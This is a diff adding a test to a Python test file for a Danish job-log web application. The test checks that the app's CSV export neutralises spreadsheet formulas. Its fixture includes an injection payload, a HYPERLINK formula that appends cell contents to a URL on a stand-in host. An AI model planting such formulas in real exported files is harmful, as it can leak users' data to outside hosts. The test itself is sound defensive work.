@@ -814,3 +814,38 @@ def test_nan_and_infinity_which_json_does_not_have_are_refused_as_not_json(
     [item] = assert_validation_error(response)
     assert item["loc"] == ["body"] and item["type"] == "json_invalid"
     assert changed(before) == []
+
+
+# --- The joblog's CSV -----------------------------------------------------------------------
+
+
+def test_the_joblog_csv_holds_texts_never_formulas(world):
+    """A text that a spreadsheet would run as a formula (=HYPERLINK(…), +, -, @) is exported with
+    an apostrophe first; other texts as they were written."""
+    import csv
+    import io
+
+    from kontaktforloeb.joblog.services import joblog_entry_add
+    from kontaktforloeb.organisations.access import Actor
+
+    register(world.anna, "dagpenge")
+    formula = '=HYPERLINK("https://example.com/?"&A1;"Se mere")'
+    joblog_entry_add(
+        actor=Actor.of_user(world.anna.user),
+        citizen=world.anna,
+        data={
+            "applied_on": date.today().isoformat(),
+            "employer": formula,
+            "title": "+45 Lager",
+            "place": "@København",
+            "application_text": "-1+1\nJeg søger",
+            "source": "advertised",
+            "hours": "full_time",
+        },
+    )
+    client = Client()
+    client.force_login(world.anna.user)
+    raw = client.get("/min-side/joblog/joblog.csv").content.decode("utf-8-sig")
+    [_, row] = list(csv.reader(io.StringIO(raw), delimiter=";"))
+    assert row[1:3] == [f"'{formula}", "'+45 Lager"]
+    assert row[5] == "'@København" and row[7] == "'-1+1\nJeg søger"
